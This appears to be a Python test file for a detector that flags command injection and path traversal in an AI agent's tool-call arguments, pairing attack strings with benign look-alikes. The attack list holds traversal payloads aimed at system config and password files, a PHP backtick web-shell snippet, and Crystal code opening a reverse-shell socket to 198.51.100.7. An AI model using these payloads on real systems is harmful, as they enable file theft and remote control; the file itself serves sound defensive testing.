"""
Session 17: command and path classes from the sixth part, unsealed this
session, at medium.

Each attack below passes main's rules before this change (eaabbef); each
benign value of the same shape passes, without any exclusion.  The values
are written here in the shape of their class, not copied from a corpus
line.
"""

from __future__ import annotations

from twisted.trial.unittest import SynchronousTestCase

from tests.inspect.test_checks import call, mediumSteps, rules, verdict
from tests.inspect.test_s15_injection import InjectionCases

CMD, PATH = "command_injection", "path_traversal"

# (check, tool, argument, value)
ATTACKS = [
    # overlong UTF-8 separators percent-encoded twice (%25c0%25af is
    # %c0%af, an overlong /; %25c1%259c an overlong \)
    (PATH, "open_file", "path", "..%25c1%259c..%25c1%259cnotes.txt"),
    (PATH, "get_document", "name", "..%25c0%25af..%25c0%25afapp.log"),
    (PATH, "read_file", "path", "%25c0%25ae%25c0%25ae%25c0%25afsecret.txt"),
    # doubled backslashes with .\\ segments between the climbs
    (PATH, "read_file", "path", ".\\\\..\\\\.\\\\..\\\\notes.txt"),
    # a climb whose dots and slashes are escaped as in a regex or JSON
    (PATH, "list_directory", "path", "\\.\\.\\/\\.\\.\\/\\.\\.\\/report.pdf"),
    # a Mac's mounted disk: the system's files on its root
    (PATH, "download", "file", "/Volumes/Backup HD/private/etc/apache2/httpd.conf"),
    (PATH, "open_file", "path", "/Volumes/old_mac/opt/nginx/conf/nginx.conf"),
    # AIX's user administration files; pure-ftpd's password database
    (PATH, "read_file", "path", "/usr/lib/security/user.roles"),
    (PATH, "view_file", "file", "../../srv/ftp/pureftpd.pdb"),
    # Crystal's evaluator; PHP's backtick operator in a tag
    (CMD, "ping_host", "host", "crystal eval 'require \"socket\"; TCPSocket.new(\"198.51.100.7\", 4444)'"),
    (CMD, "backup", "name", "db.example.net`<?=`$_REQUEST[x]`?>`"),
    # Tomcat's path parameter after a climb (..;x/), encoded or not
    (PATH, "list_directory", "path", "assets/%2e%2e;v=2/WEB-INF/classes/app.properties"),
    # a socket opened to a literal address and port: a reverse shell's code
    (CMD, "ping_host", "host", 'require "socket"\nsock = Socket.tcp(Socket::Family::INET)\nsock.connect("198.51.100.7", 9001)'),
    # a CamelCase program with two options and more arguments after a separator
    (CMD, "dns_lookup", "domain", 'files.local; GetFileInfo -d -m "quarterly report.pdf" ~/x.pdf extra'),
]

# (tool, argument, value)
BENIGN = [
    ("read_file", "path", "/Volumes/Work/project/src/main.py"),
    ("read_file", "path", "/Volumes/Photos/2024/etc/beach.jpg"),
    ("read_file", "path", "src\\\\utils\\\\..\\\\lib\\\\index.js"),
    ("search_code", "query", "escape the slash as \\/ in the pattern"),
    ("render_template", "template", "<p><?= $title ?></p>"),
    ("write_file", "content", 'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 8080))\n'),
    ("send_email", "body", "Tom & Jerry -- the film, the sequel, the remake and more"),
    ("get_document", "name", "%25c0 is how a percent sign is escaped"),
]


class InjectionClassTests(InjectionCases, SynchronousTestCase):
    attacks = ATTACKS
    benign = BENIGN


class DateTimeNotPhoneTests(SynchronousTestCase):
    """
    A date with the time after it (C{04/25/2023 11:11:00}) leaving through
    a mail is no telephone number (its digit groups, cut at the first
    colon, were validated as one with a trunk prefix).
    """

    def test_dateTime(self) -> None:
        steps = mediumSteps()
        for text in ('meeting moved to "04/25/2023 11:11:00"', "from 2023-04-25 09:30 to 2023-04-25 11:00"):
            self.assertEqual(rules(verdict(steps, call("send_email", body=text))), set(), text)
